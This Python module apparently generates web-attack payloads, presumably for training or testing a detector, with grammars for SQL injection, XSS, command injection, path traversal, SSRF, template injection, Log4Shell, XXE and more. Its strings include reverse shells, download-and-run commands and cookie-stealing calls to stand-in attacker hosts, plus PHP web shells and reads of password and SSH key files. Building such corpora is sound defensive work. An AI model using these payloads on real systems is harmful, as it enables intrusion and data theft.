"""Attack payload grammars, one per family, written for this project.

Each family is a function of a ``random.Random`` that assembles a payload
from parts (a context breakout, a body, a terminator ...), so that a few
hundred lines describe tens of thousands of distinct payloads.  The parts
are the textbook shapes of each class of attack, not copies of any test
corpus; ``encodings.evade`` then wraps them as attackers do.
"""

from __future__ import annotations

import random
from collections.abc import Callable

Grammar = Callable[[random.Random], str]

_HOSTS = ("evil.example", "attacker.test", "x.oast.example", "c2.example.net")
_WORDS = ("admin", "users", "accounts", "payments", "secret", "members", "orders")


def _n(rng: random.Random) -> str:
    return str(rng.choice((1, 2, 3, 5, 7, 9, 10, 42, 99, 1337, 0)))


def _host(rng: random.Random) -> str:
    return rng.choice(_HOSTS)


# -- SQL injection ----------------------------------------------------------------

_SQL_BREAK = ("'", '"', "')", '")', "'))", "", ")", "`", "1'", "1", "-1", "x'")
_SQL_END = ("--", "-- -", "#", "/*", ";--", "", "", "%00", "--+")


def _sql_condition(rng: random.Random) -> str:
    a = _n(rng)
    return rng.choice(
        (
            f"or {a}={a}",
            f"or '{a}'='{a}",
            f"and {a}={int(a) + 1}",
            f"or {a} like {a}",
            "or true",
            f"or {a}<>{int(a) + 1}",
            f"|| '{a}'='{a}",
            f"and {a} in ({a})",
            "or 'a'='a",
            f"or {a} between {a} and {a}",
            f"and (select {a})={a}",
            f'or "{a}"="{a}',
            "or not false",
            f"xor {a}={a}",
        )
    )


def _leak(rng: random.Random) -> str:
    return rng.choice(("version()", "user()", "database()", "@@hostname"))


def _sql_body(rng: random.Random) -> str:
    cols = ",".join(
        rng.choice(("null", _n(rng), "user()", "@@version", "0x41"))
        for _ in range(rng.randint(1, 6))
    )
    table = rng.choice(_WORDS)
    return rng.choice(
        (
            _sql_condition(rng),
            f"union select {cols}",
            f"union all select {cols} from {table}",
            f"union select username,password from {table}",
            f"; drop table {table}",
            f"; delete from {table}",
            f"; update {table} set role='admin'",
            f"; insert into {table} values({cols})",
            f"and sleep({_n(rng)})",
            f"or sleep({_n(rng)})",
            f"and benchmark(5000000,md5({_n(rng)}))",
            f"; waitfor delay '0:0:{_n(rng)}'",
            f"and extractvalue(1,concat(0x7e,(select {_leak(rng)})))",
            "and updatexml(1,concat(0x7e,user()),1)",
            f"order by {_n(rng)}",
            f"group by {_n(rng)} having 1=1",
            "and 1=cast((select version()) as int)",
            f"; select pg_sleep({_n(rng)})",
            "; exec xp_cmdshell 'whoami'",
            "; exec master..xp_dirtree '\\\\x.example\\a'",
            "and (select count(*) from information_schema.tables)>0",
            f"and ascii(substring((select database()),1,1))>{_n(rng)}",
            "and 1=(select 1 from dual)",
            f"and if(1=1,sleep({_n(rng)}),0)",
            "or 1=1 limit 1",
            f"and (select * from (select(sleep({_n(rng)})))a)",
            "union select load_file('/etc/passwd')",
            f"into outfile '/var/www/{table}.php'",
            "and dbms_pipe.receive_message('a',5)=1",
            "and 1=utl_inaddr.get_host_address((select user from dual))",
            "procedure analyse()",
            "and row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x "
            "from information_schema.tables group by x)",
            f"; declare @q varchar(99); set @q='{table}'; exec(@q)",
            "or exists(select * from users)",
            "and @@version like '%'",
            f"having {_n(rng)}={_n(rng)}",
            "; shutdown",
            "rlike (select case when 1=1 then 1 else 0x28 end)",
        )
    )


def sqli(rng: random.Random) -> str:
    prefix = rng.choice(("", "", _n(rng), "admin", "john", "test"))
    if rng.random() < 0.12:
        # Numeric or statement context: no quote needed.
        return f"{_n(rng)} {_sql_body(rng)}"
    body = _sql_body(rng)
    end = rng.choice(_SQL_END)
    if end == "" and body.startswith(("or '", "|| '", "or 'a'", 'or "')):
        return f"{prefix}{rng.choice(_SQL_BREAK)} {body}"
    return f"{prefix}{rng.choice(_SQL_BREAK)} {body}{end}"


# -- cross-site scripting ---------------------------------------------------------

_XSS_TAGS = (
    "img", "svg", "body", "iframe", "video", "audio", "details", "input", "marquee",
    "object", "embed", "math", "style", "select", "textarea", "keygen", "a", "div",
    "image", "isindex", "form", "button", "x", "frameset", "link", "meta", "base",
)  # fmt: skip
_XSS_EVENTS = (
    "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick", "onbegin",
    "onanimationstart", "onpointerenter", "onstart", "onpageshow", "onwheel",
    "onauxclick", "onblur", "oninput", "onmouseenter", "onresize", "onscroll",
)  # fmt: skip


def _js_action(rng: random.Random) -> str:
    return rng.choice(
        (
            "alert(1)",
            f"alert({_n(rng)})",
            "alert(document.domain)",
            "prompt(1)",
            "confirm`1`",
            "alert`xss`",
            "eval(atob('YWxlcnQoMSk='))",
            f"fetch('//{_host(rng)}/?c='+document.cookie)",
            f"document.location='http://{_host(rng)}/?'+document.cookie",
            f"new Image().src='//{_host(rng)}/'+document.cookie",
            "print()",
            "window['al'+'ert'](1)",
            "top[/al/.source+/ert/.source](1)",
            "self[`alert`](1)",
            "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
            "setTimeout('alert(1)')",
            "(alert)(1)",
            "import('//x.example/m.js')",
            "location=name",
            "document.write('<img src=x>')",
        )
    )


def xss(rng: random.Random) -> str:
    tag, event, act = rng.choice(_XSS_TAGS), rng.choice(_XSS_EVENTS), _js_action(rng)
    sep = rng.choice((" ", "/", "\t", "\n", " /"))
    breakout = rng.choice(("", "", '">', "'>", "</title>", "</textarea>", "-->", '"/>'))
    form = rng.choice(
        (
            f"<script>{act}</script>",
            f"<script src=//{_host(rng)}/x.js></script>",
            f"<{tag}{sep}src=x {event}={act}>",
            f"<{tag}{sep}{event}={act}>",
            f'<{tag}{sep}{event}="{act}">',
            f"<{tag} src=x:x {event}={act}//",
            f'<a href="javascript:{act}">click</a>',
            f"<iframe src=javascript:{act}>",
            f'<iframe srcdoc="<script>{act}</script>">',
            f"javascript:{act}",
            f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{act})//",
            f"' {event}='{act}",
            f'" {event}="{act}" x="',
            f"';{act};//",
            f'";{act};//',
            f"</script><script>{act}</script>",
            f"<svg><animate {event}={act} attributeName=x dur=1s>",
            '<object data="data:text/html;base64,'
            'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
            f"<math><mtext><table><mglyph><style><img src=x {event}={act}>",
            f"<details open {event}={act}>",
            f"<{tag} style=animation-name:x {event}={act}>",
            f"{{{{constructor.constructor('{act}')()}}}}",
            f'<img src="x" {event}="{act}">',
            f'<base href="//{_host(rng)}/">',
            f'<meta http-equiv="refresh" content="0;url=javascript:{act}">',
            f"<form action=javascript:{act}><input type=submit>",
            f'<div style="background:url(javascript:{act})">',
            f"<scr<script>ipt>{act}</scr</script>ipt>",
        )
    )
    return breakout + form


# -- OS command injection -----------------------------------------------------------

_COMMANDS = (
    "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /", "ifconfig",
    "wget http://{h}/s.sh -O /tmp/s", "curl -s http://{h}/x | sh", "ping -c 3 {h}",
    "nc -e /bin/sh {h} 4444", "bash -i >& /dev/tcp/{h}/4444 0>&1", "sleep 10",
    "rm -rf /tmp/x", "cat /etc/shadow", "echo vulnerable", "nslookup {h}",
    "powershell -nop -c iex(New-Object Net.WebClient).DownloadString('http://{h}')",
    "cmd /c dir", "type C:\\Windows\\win.ini", "net user", "/bin/sh -c id",
    "python -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'",
    "chmod +x /tmp/s", "crontab -l", "env", "cat ~/.ssh/id_rsa", "tftp -i {h} GET x",
)  # fmt: skip


def cmdi(rng: random.Random) -> str:
    command = rng.choice(_COMMANDS).format(h=_host(rng))
    if rng.random() < 0.2:
        command = command.replace(" ", rng.choice(("${IFS}", "$IFS$9", "<", "%09")))
    if rng.random() < 0.1:
        command = command.replace("cat", "c'a't").replace("id", 'i""d')
    prefix = rng.choice(("", "", "127.0.0.1", "x", "file.txt", _n(rng)))
    form = rng.choice(
        (
            "{p};{c}",
            "{p}|{c}",
            "{p}||{c}",
            "{p}&&{c}",
            "{p}&{c}",
            "{p}\n{c}",
            "{p}`{c}`",
            "{p}$({c})",
            "{p};{c};",
            "{p}|{c}#",
            "{p}; {c} #",
            "{p}%0a{c}",
            "$({c})",
            "`{c}`",
            "{p}';{c};'",
            '{p}";{c};"',
            "|{c}|",
        )  # fmt: skip
    )
    return form.format(p=prefix, c=command)


def shellshock(rng: random.Random) -> str:
    command = rng.choice(_COMMANDS).format(h=_host(rng))
    return rng.choice(
        (
            f"() {{ :; }}; {command}",
            f"() {{ :;}}; /bin/bash -c '{command}'",
            f"() {{ _; }} >_[$($())] {{ {command}; }}",
            "() { :; }; echo; echo; /bin/cat /etc/passwd",
        )
    )


# -- path traversal, file inclusion ---------------------------------------------------

_FILES = (
    "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini",
    "proc/self/environ", "WEB-INF/web.xml", ".env", ".git/config",
    "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts",
    "etc/issue", "proc/self/cmdline", "usr/local/etc/php.ini", "root/.bash_history",
)  # fmt: skip
_UPS = (
    "../", "..\\", "....//", "..././", "%2e%2e/", "..%2f", "%2e%2e%2f", "..%5c",
    "%252e%252e%252f", "..%c0%af", "..%c1%9c", ".%2e/", "..;/", "%u002e%u002e/",
)  # fmt: skip


def traversal(rng: random.Random) -> str:
    up = rng.choice(_UPS) * rng.randint(2, 8)
    target = rng.choice(_FILES)
    suffix = rng.choice(("", "", "", "%00", "%00.jpg", "\x00.png", "?", "#"))
    form = rng.choice(
        (
            "{u}{t}{s}",
            "/{u}{t}{s}",
            "{u}{t}{s}",
            "file:///{t}",
            "/{t}",
            "php://filter/convert.base64-encode/resource={u}{t}",
            "php://filter/read=string.rot13/resource=index.php",
            "images/{u}{t}{s}",
            "C:\\..\\..\\{t}",
            "\\\\{h}\\share\\x",
            "file://localhost/{t}",
            "expect://id",
            "zip://upload.zip#shell.php",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==",
            "jar:file:///{t}!/",
            "{u}{t}{s}",
        )  # fmt: skip
    )
    return form.format(u=up, t=target, s=suffix, h=_host(rng))


# -- server-side request forgery ------------------------------------------------------

_INTERNAL = (
    "127.0.0.1", "localhost", "169.254.169.254", "0.0.0.0", "[::1]", "2130706433",
    "0x7f000001", "017700000001", "metadata.google.internal", "10.0.0.1",
    "192.168.1.1", "172.16.0.10", "127.1", "[::ffff:127.0.0.1]", "0",
    "169.254.170.2", "100.100.100.200", "localtest.me", "127.0.0.1.nip.io",
)  # fmt: skip
_INTERNAL_PATHS = (
    "/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/",
    "/admin", ":6379/", ":22/", ":8500/v1/agent/self", "/server-status",
    ":2375/containers/json", "/metadata/instance?api-version=2021-02-01",
    ":9200/_cat/indices", ":11211/", "/latest/user-data", "/",
)  # fmt: skip


def ssrf(rng: random.Random) -> str:
    scheme = rng.choice(
        ("http", "http", "https", "gopher", "dict", "ftp", "ldap", "tftp")
    )
    host, path = rng.choice(_INTERNAL), rng.choice(_INTERNAL_PATHS)
    url = f"{scheme}://{host}{path}"
    return rng.choice(
        (
            url,
            url,
            f"http://{_host(rng)}@{host}{path}",
            f"http://{host}#@{_host(rng)}{path}",
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
            f"{url}?x=",
            f"//{host}{path}",
        )
    )


# -- template, expression and code injection -------------------------------------


def ssti(rng: random.Random) -> str:
    a, b = rng.randint(2, 99), rng.randint(2, 99)
    return rng.choice(
        (
            f"{{{{{a}*{b}}}}}",
            f"${{{a}*{b}}}",
            f"<%= {a}*{b} %>",
            f"#{{{a}*{b}}}",
            f"*{{{a}*{b}}}",
            f"[[${{{a}*{b}}}]]",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{self.__init__.__globals__.__builtins__}}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
            "{php}echo `id`;{/php}",
            "{{lipsum.__globals__.os.popen('id').read()}}",
            "#set($x=$class.inspect('java.lang.Runtime'))",
            '{{range.constructor("return global.process.mainModule'
            ".require('child_process').execSync('id')\")()}}",
            "@(1+2)",
            "${{<%[%'\"}}%\\.",
            "{{7*'7'}}",
            f"${{'{a}'.concat('{b}')}}",
            "${__import__('os').system('id')}",
        )
    )


def code(rng: random.Random) -> str:
    """PHP, Python, Node and Java code or expression injection."""
    return rng.choice(
        (
            "<?php system($_GET['c']); ?>",
            "<?php echo shell_exec($_REQUEST['x']); ?>",
            "<?= `id` ?>",
            "phpinfo();",
            "eval(base64_decode('cGhwaW5mbygpOw=='));",
            "system('id');",
            "assert($_POST['x']);",
            "passthru('whoami')",
            "file_get_contents('/etc/passwd')",
            'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
            'a:1:{i:0;O:4:"Evil":0:{}}',
            "__import__('os').system('id')",
            "eval(compile('import os;os.system(\"id\")','x','exec'))",
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process').execSync('whoami')",
            'java.lang.Runtime.getRuntime().exec("id")',
            "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            "preg_replace('/.*/e','system(\"id\")','')",
            "${@print(md5(1))}",
            "';phpinfo();//",
            "new java.lang.ProcessBuilder({'id'}).start()",
            "Runtime.getRuntime().exec('calc')",
            "__proto__[isAdmin]=true",
            '{"__proto__":{"admin":true}}',
            "constructor.prototype.polluted=1",
        )
    )


_JNDI_WORDS = (
    "jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di",
    "${env:X:-j}ndi", "${upper:j}ndi",
)  # fmt: skip


def jndi(rng: random.Random) -> str:
    proto = rng.choice(("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"))
    host = _host(rng)
    j = rng.choice(_JNDI_WORDS)
    form = rng.choice(
        (
            f"${{{j}:{proto}://{host}/a}}",
            f"${{{j}:{proto}://{host}:1389/Exploit}}",
            f"${{${{lower:{j}}}:{proto}://{host}/x}}",
            f"${{{j}:{proto}://${{env:USER}}.{host}/a}}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:java.version}",
            f"${{{j}:{proto}:${{::-/}}/{host}/z}}",
        )
    )
    return rng.choice(("", "", "x", "Mozilla/5.0 ")) + form


def ldap(rng: random.Random) -> str:
    word = rng.choice(("admin", "*", "x", "jdoe"))
    return rng.choice(
        (
            f"{word})(uid=*))(|(uid=*",
            f"{word})(&)",
            "*)(|(objectClass=*)",
            f"{word})(|(password=*))",
            "*()|&'",
            f"{word})(cn=*))\x00",
            "*)(uid=*))(|(uid=*",
            f"{word}*)(|(mail=*)",
            "admin)(!(&(1=0)",
            f"(&(uid={word})(userPassword=*))",
            "*)%00",
        )
    )


def nosql(rng: random.Random) -> str:
    return rng.choice(
        (
            '{"$ne": null}',
            '{"$gt": ""}',
            '{"$regex": ".*"}',
            '{"$where": "sleep(5000)"}',
            "'; return true; var x='",
            "' || '1'=='1",
            "this.password.match(/.*/)",
            "'; while(true){}; '",
            '{"$where": "this.role == \'admin\'"}',
            "true, $where: '1 == 1'",
            "[$ne]=1",
            "db.users.find({})",
            '{"username": {"$in": ["admin"]}}',
            '{"$or": [{}, {"a": "a"}]}',
            "1; db.dropDatabase()",
            "'||this.constructor.constructor('return process')().exit()||'",
        )
    )


def xxe(rng: random.Random) -> str:
    target = rng.choice(("file:///etc/passwd", f"http://{_host(rng)}/x.dtd",
                         "php://filter/convert.base64-encode/resource=/etc/hosts",
                         "expect://id", "file:///c:/windows/win.ini"))  # fmt: skip
    return rng.choice(
        (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>'
            "<r>&x;</r>",
            f'<!DOCTYPE foo [<!ENTITY % p SYSTEM "{target}"> %p;]>',
            f'<!ENTITY xxe SYSTEM "{target}">',
            '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>',
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'parse="text" href="{target}"/>',
            f'<?xml-stylesheet type="text/xsl" href="{target}"?>',
            '<foo xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="{target}"/>',
        )
    )


def crlf(rng: random.Random) -> str:
    header = rng.choice(
        (
            "Set-Cookie: session=attacker",
            f"Location: http://{_host(rng)}/",
            "X-Injected: 1",
            "Content-Length: 0",
            "Refresh: 0; url=//x.example",
            "Content-Type: text/html",
        )
    )
    prefix = rng.choice(("", "en", "x", "/home", _n(rng)))
    newline = rng.choice(
        ("\r\n", "\n", "\r\n\r\n", "\r", "%0d%0a", "%0a", "\u560a\u560d")
    )
    tail = rng.choice(("", "", "\r\n\r\n<script>alert(1)</script>", "\r\nX: y"))
    return f"{prefix}{newline}{header}{tail}"


def mail_header(rng: random.Random) -> str:
    field = rng.choice(("Bcc", "Cc", "To", "Subject", "Content-Type"))
    return rng.choice(
        (
            f"victim@example.com\n{field}: spam@{_host(rng)}",
            f"user@example.org%0a{field}:%20x@{_host(rng)}",
            f"a@b.c\r\n{field}: x@{_host(rng)}\r\n\r\nbody",
        )
    )


def ssi(rng: random.Random) -> str:
    return rng.choice(
        (
            '<!--#exec cmd="ls"-->',
            '<!--#exec cmd="cat /etc/passwd" -->',
            '<!--#include virtual="/etc/passwd"-->',
            '<!--#include file="secret.txt" -->',
            '<!--#echo var="DOCUMENT_ROOT" -->',
            "<!--#printenv -->",
            '<!--#config errmsg="x"-->',
            '<!--#exec cgi="/cgi-bin/x.cgi"-->',
        )
    )


# (name, grammar, weight): the weight follows how often each family shows up
# in public attack traffic and how many shapes it has.
FAMILIES: tuple[tuple[str, Grammar, int], ...] = (
    ("sqli", sqli, 26),
    ("xss", xss, 20),
    ("cmdi", cmdi, 12),
    ("traversal", traversal, 10),
    ("ssrf", ssrf, 5),
    ("ssti", ssti, 6),
    ("code", code, 6),
    ("jndi", jndi, 4),
    ("ldap", ldap, 3),
    ("nosql", nosql, 4),
    ("xxe", xxe, 3),
    ("crlf", crlf, 4),
    ("mail", mail_header, 1),
    ("ssi", ssi, 2),
    ("shellshock", shellshock, 1),
)
